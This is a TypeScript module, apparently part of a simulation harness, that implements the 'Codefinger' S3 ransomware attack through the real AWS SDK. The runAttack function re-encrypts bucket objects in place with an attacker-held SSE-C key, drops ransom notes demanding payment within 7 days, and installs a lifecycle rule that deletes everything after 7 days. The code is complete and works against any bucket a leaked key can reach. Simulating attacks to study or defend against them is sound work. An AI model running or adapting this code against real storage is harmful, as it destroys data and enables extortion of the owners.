import { createHash } from 'node:crypto';
import {
  CopyObjectCommand,
  PutBucketLifecycleConfigurationCommand,
  PutObjectCommand,
  type S3Client,
} from '@aws-sdk/client-s3';
import { bytes } from './random.ts';

export interface AttackResult {
  encrypted: string[];
  ransomNotes: string[];
  failed: number;
  startedAt: Date;
  finishedAt: Date;
}

/**
 * The Codefinger attack as it happened: with a leaked key, CopyObject each object onto itself
 * with an SSE-C key only the attacker holds, drop a ransom note per prefix, and set a lifecycle
 * rule that destroys what is left in 7 days. Runs through the real SDK with the attacker's key.
 */
export async function runAttack(opts: {
  s3: S3Client;
  bucket: string;
  keys: string[];
  rand: () => number;
  share: number;
  concurrency?: number;
}): Promise<AttackResult> {
  const startedAt = new Date();
  const key = bytes(opts.rand, 32);
  const sseC = {
    SSECustomerAlgorithm: 'AES256',
    SSECustomerKey: key.toString('base64'),
    SSECustomerKeyMD5: createHash('md5').update(key).digest('base64'),
  };
  const targets = opts.keys.filter(() => opts.rand() < opts.share);
  const encrypted: string[] = [];
  let failed = 0;
  let next = 0;
  const worker = async () => {
    while (next < targets.length) {
      const k = targets[next++]!;
      try {
        await opts.s3.send(
          new CopyObjectCommand({
            Bucket: opts.bucket,
            Key: k,
            CopySource: `${opts.bucket}/${encodeURIComponent(k)}`,
            ...sseC,
          }),
        );
        encrypted.push(k);
      } catch {
        // Objects the attacker cannot read (already SSE-C with another key) are skipped, as in the wild.
        failed++;
      }
    }
  };
  await Promise.all(Array.from({ length: opts.concurrency ?? 16 }, worker));

  const prefixes = [...new Set(targets.map((k) => k.split('/')[0]!))];
  const ransomNotes: string[] = [];
  for (const p of prefixes) {
    const noteKey = `${p}/README-RECOVER-YOUR-FILES.txt`;
    await opts.s3.send(
      new PutObjectCommand({
        Bucket: opts.bucket,
        Key: noteKey,
        ContentType: 'text/plain',
        Body: 'Your files are encrypted with AES-256. Pay within 7 days or they are deleted. Do not change permissions.',
      }),
    );
    ransomNotes.push(noteKey);
  }
  await opts.s3.send(
    new PutBucketLifecycleConfigurationCommand({
      Bucket: opts.bucket,
      LifecycleConfiguration: {
        Rules: [
          {
            ID: 'cleanup-7d',
            Status: 'Enabled',
            Filter: { Prefix: '' },
            Expiration: { Days: 7 },
            NoncurrentVersionExpiration: { NoncurrentDays: 7 },
          },
        ],
      },
    }),
  );
  encrypted.sort();
  return { encrypted, ransomNotes, failed, startedAt, finishedAt: new Date() };
}
